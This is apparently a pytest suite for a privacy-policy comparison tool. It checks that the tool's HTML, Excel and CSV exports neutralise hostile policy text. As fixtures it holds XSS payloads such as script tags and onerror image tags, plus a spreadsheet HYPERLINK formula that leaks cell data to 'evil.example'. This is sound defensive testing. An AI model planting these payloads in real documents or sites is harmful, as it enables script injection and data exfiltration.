"""Exports: the HTML report is self-contained and inert; spreadsheets never hold formulas.

A hostile policy (markup in its name, headings and clauses; formula-like lines) goes through
both exports: nothing may execute or become a formula, and the text must stay visible.
"""

from __future__ import annotations

import base64
import csv
import zipfile

import pytest
from _comparison_tables import HOSTILE_LINES, hostile_policy, make_report, two_policies
from hypothesis import given, settings
from hypothesis import strategies as st

import policylens
from policylens.report.html import render_html
from policylens.report.sections import SECTIONS
from policylens.report.spreadsheet import (
    FORMULA_PREFIXES,
    neutralise,
    write_excel,
)

lxml_html = pytest.importorskip("lxml.html")
openpyxl = pytest.importorskip("openpyxl")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def report():
    return make_report([*two_policies(), hostile_policy()])


GENERATED = "2026-01-02 03:04 UTC"
SHEETS = [s.key for s in SECTIONS]


@pytest.fixture(scope="module")
def page(report):
    report.skipped = [("/home/analyst/private/broken.pdf",
                       "/home/analyst/private/broken.pdf: no text layer (scanned PDF?)")]
    return render_html(report.summary(generated=GENERATED))


@pytest.fixture(scope="module")
def doc(page):
    return lxml_html.fromstring(page)


@pytest.fixture(scope="module")
def workbook(report, tmp_path_factory):
    path = report.to_excel(tmp_path_factory.mktemp("xlsx") / "report.xlsx")
    return path


# ---------------------------------------------------------------------------- neutralise


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("plain", "plain"), ("a=1", "a=1"), ("", ""), (" =1", " =1"),
])
def test_neutralise(text, expected):
    assert neutralise(text) == expected


# ---------------------------------------------------------------------------- HTML


def test_html_has_no_active_content(page):
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//script") == []
    assert doc.xpath("//iframe|//object|//embed|//form|//link") == []
    for element in doc.iter():
        for name in element.attrib:
            assert not name.lower().startswith("on"), (element.tag, name)
    # the only images are the embedded charts
    for img in doc.xpath("//img"):
        assert img.get("src").startswith("data:image/png;base64,")
        assert base64.b64decode(img.get("src").split(",", 1)[1])[:8] == b"\x89PNG\r\n\x1a\n"
    # self-contained: every link is an anchor inside the page
    hrefs = [a.get("href") for a in doc.xpath("//a[@href]")]
    assert hrefs and all(h.startswith("#") for h in hrefs)


def test_html_forbids_scripts_by_policy(page):
    doc = lxml_html.fromstring(page)
    csp = doc.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert csp and "default-src 'none'" in csp[0]


def test_html_shows_hostile_text_as_text(page):
    doc = lxml_html.fromstring(page)
    visible = doc.text_content()
    assert "<script>alert(1)</script>" in visible  # the clause, in the evidence section
    assert "<script>document.title='pwned'</script>" in visible  # the section heading
    assert "<img src=x onerror=\"document.title='pwned'\">" in visible  # the policy name
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"click me")' in visible
    assert "<script>" not in page.split("<body>", 1)[1].replace("&lt;script&gt;", "")


def _quotes_behind(doc, href):
    """The evidence quotes a link leads to: the quote itself, or those its index row links to."""
    target = doc.get_element_by_id(href[1:])
    if target.tag == "blockquote":
        return [target]
    return [doc.get_element_by_id(a.get("href")[1:]) for a in target.xpath(".//a[@href]")]


def test_html_every_marked_cell_links_to_its_evidence(report, doc):
    links = doc.xpath("//table[contains(@class, 'matrix')]//td[@class='yes']/a")
    marked = sum(int(getattr(report, attr).to_numpy().sum())
                 for attr in ("rights", "transfers", "legal_bases", "laws", "destinations"))
    assert len(links) == marked > 0
    for link in links:
        quotes = _quotes_behind(doc, link.get("href"))
        assert quotes and all(q.tag == "blockquote" and q.xpath(".//mark") for q in quotes)


def test_html_evidence_highlights_the_cited_span_inside_its_sentence(doc):
    quotes = doc.xpath("//blockquote[contains(@class, 'ev')]")
    marks = [m.text_content() for q in quotes for m in q.xpath(".//mark")]
    assert "ask us to delete it" in marks
    assert "right to access your data <script>alert(1)</script>" in marks
    whole = next(q for q in quotes if "ask us to delete it" in q.text_content())
    assert "You can ask for a copy of your data and ask us to delete it." in whole.text_content()


def test_html_quotes_a_clause_once_with_every_span_marked(doc):
    # alpha's access and erasure findings lie in one sentence: one quote, two marks
    quotes = [q for q in doc.xpath("//blockquote[contains(@class, 'ev')]")
              if "ask us to delete it" in q.text_content()]
    assert len(quotes) == 1
    assert [m.text_content() for m in quotes[0].xpath(".//mark")] == [
        "ask for a copy of your data", "ask us to delete it"]
    assert "Access" in quotes[0].text_content() and "Erasure" in quotes[0].text_content()


def test_html_sections(doc):
    ids = doc.xpath("//section/@id")
    assert ids == ["policies", "rights", "transfers", "legal_bases", "laws", "destinations",
                   "data_collected", "data_disclosed", "data_sold_shared", "ccpa_categories",
                   "purposes", "recipients", "data_sources", "data_flows",
                   "retention", "children", "coverage", "compliance", "evidence", "glossary"]
    for section in doc.xpath("//section"):
        assert section.xpath(".//a[@href='#top']"), section.get("id")  # back to top
    assert doc.get_element_by_id("top") is not None


def test_html_header(doc):
    header = doc.get_element_by_id("top").text_content()
    assert GENERATED in header
    assert "policylens " + policylens.__version__ in header
    assert "alpha.txt" in header and "beta.txt" in header  # inputs by file name
    assert "broken.pdf" in header and "no text layer" in header  # skipped, with the reason
    assert "/home/analyst" not in doc.text_content()  # never a local absolute path


def test_html_policies_table_is_transposed_and_links_facts_to_evidence(doc):
    table = doc.xpath("//section[@id='policies']//table")[0]
    header = [th.text_content() for th in table.xpath(".//thead//th")]
    assert header[1:] == ["Alpha Ltd", "Beta Inc", "<img src=x onerror=\"document.title='pwned'\">"]
    rows = {tr.xpath("./th")[0].text_content(): tr for tr in table.xpath(".//tbody/tr")}
    min_age = rows["Minimum age"].xpath("./td")[0]
    assert min_age.text_content() == "16"
    (quote,) = _quotes_behind(doc, min_age.xpath(".//a")[0].get("href"))
    assert "at least 16 years old" in [m.text_content() for m in quote.xpath(".//mark")]
    # values as people write them: 72.0 hours -> '72 hours', unknown -> '–', False -> 'no'
    assert rows["Breach notice (hours)"].xpath("./td")[1].text_content() == "72 hours"
    assert rows["Breach notice (hours)"].xpath("./td")[0].text_content() == "\u2013"
    assert rows["Sells data"].xpath("./td")[0].text_content() == "no"
    # labels carry their one-line description as a tooltip
    assert rows["Sells data"].xpath("./th")[0].get("title")


def test_html_laws_table_shows_only_cited_laws(report, doc):
    rows = doc.xpath("//section[@id='laws']//table//tbody/tr/th")
    assert [r.text_content() for r in rows] == ["GDPR", "COPPA"]
    assert "left out" in doc.get_element_by_id("laws").text_content()
    # rights keep every id of the vocabulary: a right no policy grants is a finding too
    rights = doc.xpath("//section[@id='rights']//table//tbody/tr")
    assert len(rights) == len(report.rights.columns)


def test_html_charts_have_alt_text_and_captions(doc):
    figures = doc.xpath("//figure[contains(@class, 'chart')]")
    assert len(figures) >= 3
    for figure in figures:
        alt = figure.xpath(".//img/@alt")[0]
        assert len(alt) > 30 and alt != "chart"
        assert figure.xpath(".//figcaption")[0].text_content().strip()
    rights_alt = doc.xpath("//section[@id='rights']//img/@alt")[0]
    assert "Alpha Ltd: Access, Erasure" in rights_alt


def test_html_glossary_explains_every_id_shown(doc):
    glossary = doc.get_element_by_id("glossary")
    ids = {code.text_content() for code in glossary.xpath(".//dt/code")}
    assert {"opt_out_sale_sharing", "unspecified_safeguards", "hk_pdpo", "erasure",
            "sells_data"} <= ids
    for dd in glossary.xpath(".//dd"):
        assert dd.text_content().strip()
    # matrix labels have the same descriptions as tooltips
    row = next(th for th in doc.xpath("//section[@id='rights']//tbody//th")
               if th.text_content() == "Erasure")
    assert "deleted" in row.get("title")


def test_html_has_no_python_code(doc):
    text = doc.text_content()
    assert "report." not in text and ".evidence(" not in text and "policylens." not in text


def test_html_children_table_shows_tri_state_values(doc):
    table = doc.xpath("//section[@id='children']//table")[0]
    rows = {tr.xpath("./th")[0].text_content(): [td.text_content() for td in tr.xpath("./td")]
            for tr in table.xpath(".//tbody/tr")}
    header = [th.text_content() for th in table.xpath(".//thead//th")]
    consent = header.index("Parental consent") - 1
    assert rows["Beta Inc"][consent] == "\u2713"
    assert rows["Alpha Ltd"][consent] == "\u2013"  # not stated: unknown, not 'no'


def test_html_is_deterministic(report):
    again = make_report([*two_policies(), hostile_policy()])
    again.skipped = report.skipped
    assert render_html(report.summary(generated=GENERATED)) == render_html(
        again.summary(generated=GENERATED))


def test_to_html_writes_the_file(report, tmp_path):
    path = report.to_html(tmp_path / "sub" / "report.html")
    assert path.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_non_english_policy_is_not_analysed_not_no():
    from _comparison_tables import Spec

    german = Spec(id="german", name="Deutsche GmbH",
                  lines=["# Datenschutz", "Wir speichern Ihre Daten."],
                  facts={"language": "de", "sells_data": None})
    report = make_report([*two_policies(), german])
    assert report.analysed.to_dict() == {"alpha": True, "beta": True, "german": False}
    assert report.policies["analysed"].tolist() == [True, True, False]  # flagged in the table
    summary = report.summary(generated=GENERATED)
    assert [i["analysed"] for i in summary["inputs"]] == [True, True, False]
    doc = lxml_html.fromstring(render_html(summary))
    header = doc.get_element_by_id("top").text_content()
    assert "Not analysed" in header and "Deutsche GmbH" in header and "de" in header
    # its matrix column reads 'not analysed', never blank ('not stated') or 'no'
    column = [tr.xpath("./td")[2].text_content() for tr in
              doc.xpath("//section[@id='rights']//tbody/tr")]
    assert set(column) == {"not analysed"}
    facts = {tr.xpath("./th")[0].text_content(): tr.xpath("./td")[2].text_content()
             for tr in doc.xpath("//section[@id='policies']//tbody/tr")}
    assert facts["Sells data"] == "not analysed" and facts["Language"] == "de"
    assert facts["Clauses"] == "2"  # what was read is still shown


# ---------------------------------------------------------------------------- Excel


def test_excel_has_one_sheet_per_table(workbook):
    wb = openpyxl.load_workbook(workbook)
    assert wb.sheetnames == [*SHEETS, "inputs", "glossary"]


def test_excel_holds_no_formula(workbook):
    wb = openpyxl.load_workbook(workbook)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(workbook) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_excel_keeps_hostile_text_visible_and_exact(workbook):
    wb = openpyxl.load_workbook(workbook)
    values = {cell.value for sheet in wb.worksheets for row in sheet.iter_rows() for cell in row}
    for line in ('=HYPERLINK("http://evil.example/?leak="&A1,"click me")', '=HYPERLINK("http://x")',
                 "=cmd data is kept for 30 days", "@SUM(1+1)", "-2; +1",
                 "<img src=x onerror=\"document.title='pwned'\">"):
        assert line in values, line


def test_excel_marks_formula_like_text_as_quoted(workbook):
    wb = openpyxl.load_workbook(workbook)
    formula_like = [cell for sheet in wb.worksheets for row in sheet.iter_rows() for cell in row
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES)]
    assert len(formula_like) >= 4
    assert all(cell.quotePrefix and cell.data_type == "s" for cell in formula_like)


def test_excel_matrices_are_booleans(workbook, report):
    sheet = openpyxl.load_workbook(workbook)["rights"]
    header = [c.value for c in sheet[1]]
    assert header[0] == "policy" and header[1:] == list(report.rights.columns)
    row = {c.value for c in sheet[2][1:]}
    assert row <= {True, False}


def test_excel_strips_characters_xml_cannot_hold(tmp_path):
    from _comparison_tables import Spec

    spec = Spec(id="ctl", lines=["Bad \x0b char \x01 here and the right to access."],
                findings=[("right", "access", "right to access", {})])
    report = make_report([spec])
    wb = openpyxl.load_workbook(write_excel(report.summary(), tmp_path / "ctl.xlsx"))
    assert "right to access" in {c.value for r in wb["findings"].iter_rows() for c in r}


# ---------------------------------------------------------------------------- CSV


def test_csv_neutralises_every_formula_like_cell(report, tmp_path):
    paths = report.to_csv(tmp_path / "csv")
    assert {p.name for p in paths} == {f"{name}.csv" for name in SHEETS} | {"clauses.csv", "inputs.csv"}
    seen = set()
    for path in paths:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
                    seen.add(cell)
    for line in HOSTILE_LINES[2:]:
        assert "'" + line in seen, line  # still visible, behind an apostrophe
    assert HOSTILE_LINES[0] in seen  # markup is harmless in CSV and kept as is


# ---------------------------------------------------------------------------- real pipeline


def test_hostile_file_through_the_pipeline(tmp_path):
    pytest.importorskip("policylens.classify", reason="the classifier (issue 6) is not in this tree")
    from policylens.report import compare

    name = "<img src=x onerror=alert(1)>"
    path = tmp_path / f"{name}.txt"
    path.write_text("Privacy Policy\n\n" + "\n".join(HOSTILE_LINES) + "\n\n"
                    "Your Rights\n\nYou have the right to access and delete your personal data "
                    "<script>alert(1)</script>.\n", encoding="utf-8")
    report = compare([path])
    page = report.to_html(tmp_path / "r.html").read_text(encoding="utf-8")
    doc = lxml_html.fromstring(page)
    assert doc.xpath("//script") == [] and not doc.xpath("//img[not(starts-with(@src, 'data:'))]")
    assert name in doc.text_content()
    wb = openpyxl.load_workbook(report.to_excel(tmp_path / "r.xlsx"))
    cells = [c for s in wb.worksheets for r in s.iter_rows() for c in r]
    assert not [c for c in cells if c.data_type == "f"]
    assert name in {c.value for c in cells}


# ---------------------------------------------------------------------------- properties

# printable text that often starts like a formula
texty = st.one_of(st.text(), st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES), st.text()))


@given(texty)
def test_neutralised_text_never_starts_like_a_formula(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_PREFIXES)
    assert safe == text or safe == "'" + text


@settings(max_examples=60, deadline=None)
@given(texty)
def test_template_escapes_any_text(text):
    # the report's jinja2 environment autoescapes: any policy text renders as inert text
    import html

    from policylens.report.html import _environment

    out = _environment().from_string("{{ x }}").render(x=text)
    assert not set(out) & set("<>\"'")  # nothing can open a tag or leave an attribute
    assert html.unescape(out) == text


@settings(max_examples=40, deadline=None)
@given(st.lists(texty, min_size=1, max_size=5))
def test_any_text_round_trips_through_excel_as_text(texts):
    import io

    from openpyxl import Workbook

    from policylens.report.spreadsheet import _ILLEGAL_XML, _set_cell

    wb = Workbook()
    for i, text in enumerate(texts, start=1):
        _set_cell(wb.active.cell(row=i, column=1), text)
    buffer = io.BytesIO()
    wb.save(buffer)
    back = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    for i, text in enumerate(texts, start=1):
        cell = back.cell(row=i, column=1)
        expected = _ILLEGAL_XML.sub("\ufffd", text)
        assert cell.data_type != "f"
        # openpyxl reads an empty string back as an empty cell
        assert (cell.value or "") == expected


def test_evidence_lists_every_sentence_of_a_finding():
    from _comparison_tables import Spec

    lines = [f"Line {i}: you may access your data." for i in range(9)]
    spec = Spec(id="many", lines=lines, findings=[("right", "access", line, {}) for line in lines])
    doc = lxml_html.fromstring(render_html(make_report([spec]).summary()))
    (link,) = doc.xpath("//section[@id='rights']//td[@class='yes']/a")
    quotes = _quotes_behind(doc, link.get("href"))
    assert len(quotes) == 9  # the index row links to each sentence, each quoted once
    assert [q.xpath(".//mark")[0].text_content() for q in quotes] == lines


# ---------------------------------------------------------------------------- sentences in exports


def test_excel_findings_keep_their_sentence(workbook):
    sheet = openpyxl.load_workbook(workbook)["findings"]
    header = [c.value for c in sheet[1]]
    assert header.index("context") == header.index("evidence") + 1
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    erasure = next(r for r in rows if r["value"] == "erasure")
    assert erasure["context"] == "You can ask for a copy of your data and ask us to delete it."
    # a formula-like sentence stays text, exactly, with Excel's quote prefix
    cells = [row[header.index("context")] for row in sheet.iter_rows(min_row=2)]
    hostile = next(c for c in cells if c.value == "=cmd data is kept for 30 days.")
    assert hostile.quotePrefix and hostile.data_type == "s"


def test_csv_findings_keep_their_sentence_neutralised(report, tmp_path):
    path = next(p for p in report.to_csv(tmp_path / "csv") if p.name == "findings.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    contexts = {r["value"]: r["context"] for r in rows if r["aspect"] in ("right", "retention")}
    assert contexts["erasure"] == "You can ask for a copy of your data and ask us to delete it."
    assert "'=cmd data is kept for 30 days." in {r["context"] for r in rows}


def test_notebook_summary_shows_tri_state_children(report):
    from policylens.report.notebook import summary_html

    doc = lxml_html.fromstring(summary_html(report.summary()))
    table = doc.xpath("//table[contains(@id, 'children')]")[0]
    cells = {tr.xpath("./th")[0].text_content(): [td.text_content().strip() for td in tr.xpath("./td")]
             for tr in table.xpath(".//tbody/tr")}
    assert cells["beta"][-1] == "\u2713" and cells["alpha"][-1] == "\u2013"  # never blank
    assert report._repr_html_() == summary_html(report.summary())
